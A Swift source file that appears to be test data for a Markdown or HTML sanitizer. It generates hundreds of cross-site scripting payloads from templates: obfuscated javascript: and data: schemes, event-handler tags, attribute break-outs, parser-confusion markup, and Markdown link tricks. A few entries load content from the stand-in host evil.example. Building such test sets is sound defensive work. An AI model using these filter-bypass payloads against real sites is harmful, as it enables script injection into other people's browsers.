// Texts that bring script into a page where something forgets to escape, or looks for a scheme otherwise than a browser.

/// Payloads, made of templates and what to put into them; each once, always in the same order.
package enum InjectionPayloads {
  /// All of them.
  package static let all: [String] = {
    var known: Set<String> = []
    return (addresses + dataAddresses + tags + breakOuts + markup + nested).filter { known.insert($0).inserted }
  }()

  // MARK: Addresses

  private static let schemes = [
    "javascript", "vbscript", "livescript", "mocha", "data", "file", "blob", "filesystem", "view-source", "jar",
    "about", "intent", "ms-its", "x-javascript",
  ]

  /// Ways to write a scheme that a browser may still see as that scheme.
  private static func disguises(_ scheme: String) -> [String] {
    let (first, rest) = (String(scheme.prefix(1)), String(scheme.dropFirst()))
    let (start, end) = (String(scheme.prefix(4)), String(scheme.dropFirst(4)))
    let code = first.unicodeScalars.first?.value ?? 0
    let hex = String(code, radix: 16)
    let mixed = scheme.enumerated().map { $0.offset % 2 == 0 ? $0.element.uppercased() : String($0.element) }.joined()
    let inner = [
      "\t", "\n", "\r", "\u{0}", "\u{1}", "\u{B}", "\u{C}", " ", "\u{AD}", "\u{200B}", "\u{FEFF}", "\\", "/**/",
      "&Tab;", "&NewLine;", "&#9;", "&#10;", "&#13;", "&#x0A;", "&#0;", "&#x000009;", "&#9", "&ZeroWidthSpace;",
      "&shy;", "%09", "%0A", "%00", "<!-- -->",
    ].map { start + $0 + end + ":" }
    let before = [
      " ", "\t", "\u{1}", "\u{8}", "\u{E}", "\u{1F}", "\u{7F}", "\u{A0}", "\u{2028}", "\u{FEFF}", "\u{200B}", "\u{0}",
      "&#1;", "&#x1f;", "&#32;", "&nbsp;", "&Tab;", "&NewLine;", "%20", "%01", "./", "//", "http:", "url(", "\\",
      "feed:",
      "?", "#", "=", "'", "\"", "&", "&amp;",
    ].map { $0 + scheme + ":" }
    let colons = [
      ":", "&colon;", "&#58;", "&#x3a;", "&#X3A;", "&#0000058;", "&#58", "&#x3a", "&colon", "%3A", "%253A", "\\:",
      "\u{FF1A}", "\u{2236}", " :", "\t:", "\n:", "&Tab;:", "::", ":\\/\\/", "://%0A", "://%0D%0A", ":\u{2028}",
      ":&NewLine;",
    ].map { scheme + $0 }
    let letters = [
      "&#\(code);\(rest):", "&#x\(hex);\(rest):", "&#X\(hex.uppercased());\(rest):", "&#0000\(code);\(rest):",
      "&#\(code)\(rest):", "%\(hex)\(rest):", "%25\(hex)\(rest):", "\\\(scheme):", "&#\(code + 0xFEE0);\(rest):",
      "\\u00\(hex)\(rest):", "\\x\(hex)\(rest):", "&amp;#\(code);\(rest):",
    ]
    return [scheme.uppercased() + ":", mixed + ":"] + inner + before + colons + letters
  }

  private static let addresses = schemes.flatMap { scheme in
    disguises(scheme).map { $0 + (scheme == "data" ? "text/html,<script>alert(1)</script>" : "alert(1)") }
  }

  private static let dataAddresses: [String] = {
    let types = [
      "text/html", "text/html;charset=utf-8", "text/html;base64", "image/svg+xml", "image/svg+xml;base64", "text/xml",
      "application/xhtml+xml", "text/javascript", "", ";base64", "image/png", "text/html;;base64", "TEXT/HTML",
    ]
    let bodies = [
      "<script>alert(1)</script>", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "%3Cscript%3Ealert(1)%3C/script%3E",
      "<svg onload=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    ]
    return types.flatMap { type in bodies.map { "data:\(type),\($0)" } }
  }()

  // MARK: Tags

  private static let names = [
    "script", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "body", "details", "input", "form",
    "button", "isindex", "marquee", "link", "meta", "base", "style", "template", "noscript", "a", "select", "textarea",
    "title", "xmp", "frameset", "keygen", "plaintext", "noembed", "noframes", "applet", "bgsound", "dialog", "portal",
    "x-custom", "animate", "set", "use", "foreignObject", "annotation-xml", "mglyph", "desc",
  ]

  private static func shapes(_ name: String) -> [String] {
    [
      "<\(name)>alert(1)</\(name)>", "<\(name.uppercased())>alert(1)</\(name)>", "<\(name)/onload=alert(1)>",
      "<\(name) src=x onerror=alert(1)>", "<\(name) src=\"x\" onerror='alert(1)' />", "<\(name)\tonload=alert(1)\n>",
      "<\(name)\u{C}onload=alert(1)>", "<\(name) onfocus=`alert(1)` autofocus>",
      "<\(name) style=\"width:expression(1)\">",
      "<\(name) href=\"javascript:alert(1)\">x</\(name)>", "<\(name) xlink:href=\"data:x\"/>", "</\(name)>",
      "</\(name) onload=alert(1)>", "<\(name)", "<\(name) ", "<<\(name)>", "<\(name)<b>", "< \(name)>",
      "<\u{0}\(name)>",
      "<\(name)\u{0}>", "&lt;\(name)&gt;", "&#60;\(name)&#62;", "&#x3c;\(name)&#x3e;", "&LT;\(name)&GT;", "\\<\(name)>",
      "%3C\(name)%3E", "\u{FF1C}\(name)\u{FF1E}", "<\(name)/x>", "<div><\(name)/x>alert(1)</\(name)/x></div>",
      "<\(name) x=\"\n\n\" onload=alert(1)>", "<?\(name) ?>", "<!\(name)>", "<!--><\(name)>-->",
    ]
  }

  private static let tags = names.flatMap(shapes)

  // MARK: Out of attributes

  private static let breakOuts: [String] = {
    let quotes = [
      "\"", "'", "`", "&quot;", "&#34;", "&#x22;", "&#39;", "&apos;", "\\\"", "\\'", "%22", "%27", "\u{FF02}", "\"'",
      "&#34", "&amp;quot;", "\"\n", "' ", ")", "\")",
    ]
    let tails = [
      " onclick=alert(1) x=", " onmouseover=\"alert(1)", " autofocus onfocus=alert(1) ", "><script>alert(1)</script>",
      "/><img src=x onerror=alert(1)>", "></a><svg onload=alert(1)>", " style=position:fixed;inset:0 ",
      "&gt;&lt;script&gt;",
      ">", " class=x id=y ", "&#32;footnote-ref", "\u{A0}onclick=x", "\u{C}onclick=x", "\tonclick=x",
    ]
    return quotes.flatMap { quote in tails.flatMap { ["a" + quote + $0, "http://a.b/" + quote + $0] } }
  }()

  // MARK: Shapes that are read anew and mean another thing then

  private static let markup: [String] = {
    let inner = [
      "<img src=x onerror=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<template><script>alert(1)</script></template>",
      "<select><style></select><img src=x onerror=alert(1)></style>", "<textarea></textarea><script>alert(1)</script>",
      "<title></title><script>alert(1)</script>", "<xmp></xmp><script>alert(1)</script>", "<table><td><svg><desc><td>",
      "<svg><foreignObject><iframe srcdoc=x>", "<a href=javascript:alert(1)><b>", "<p><a><table><a>", "<plaintext>",
      "<b><p></b></p><script>", "<svg><a xlink:href=javascript:alert(1)><text>", "<base href=//evil.example>",
      "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=import href=//evil.example>",
      "<object data=javascript:alert(1)>", "<iframe srcdoc=\"&lt;script&gt;\">",
      "<style>@import '//evil.example'</style>",
    ]
    let wraps: [(String, String)] = [
      ("", ""), ("<!--", "-->"), ("<!-->", "-->"), ("<!--->", "-->"), ("--!>", "<!--"), ("<![CDATA[", "]]>"),
      ("]]>", ""),
      ("<?xml ", "?>"), ("?>", "<?"), ("<!DOCTYPE x [", "]>"), ("<!ENTITY x \"", "\">"),
      ("<svg><![CDATA[", "]]></svg>"),
      ("<math>", "</math>"), ("<svg><title>", "</title></svg>"), ("</p>", "<p>"), ("</code></pre>", "<pre><code>"),
      ("</td></tr></table>", ""), ("</li></ul>", ""), ("</a>", "<a>"), ("\u{FEFF}", ""), ("<div>\n", "\n</div>"),
      ("\n\n", "\n\n"),
    ]
    return wraps.flatMap { wrap in inner.map { wrap.0 + $0 + wrap.1 } }
  }()

  // MARK: Markdown within Markdown

  private static let nested: [String] = {
    let inner = [
      "javascript:alert(1)", "<javascript:alert(1)>", "java&Tab;script:alert(1)", "data:text/html,x", "vbscript:x",
    ]
    let templates: [(String, String)] = [
      ("[a](", ")"), ("![a](", ")"), ("[![a](", ")](x)"), ("[a](x)](", ")"), ("[a][b]\n\n[b]: ", ""),
      ("[a]: ", "\n\n[a]"),
      ("<", ">"), ("`](", ")`"), ("\\[a](", ")"), ("[a](x \"", "\")"), ("[^1]\n\n[^1]: [a](", ")"), ("**[a](", ")**"),
      ("| [a](", ") |\n|-|"), ("> [a](", ")"), ("- [ ] [a](", ")"), ("www.a.b/", ""), ("http://", ""), ("mailto:", ""),
      ("a@b.c?", ""), ("[a](<", ">)"), ("[a](\\", ")"), ("[\\](x)](", ")"), ("[a]( ", " )"), ("[a](x '", "')"),
    ]
    return templates.flatMap { template in inner.map { template.0 + $0 + template.1 } }
  }()
}
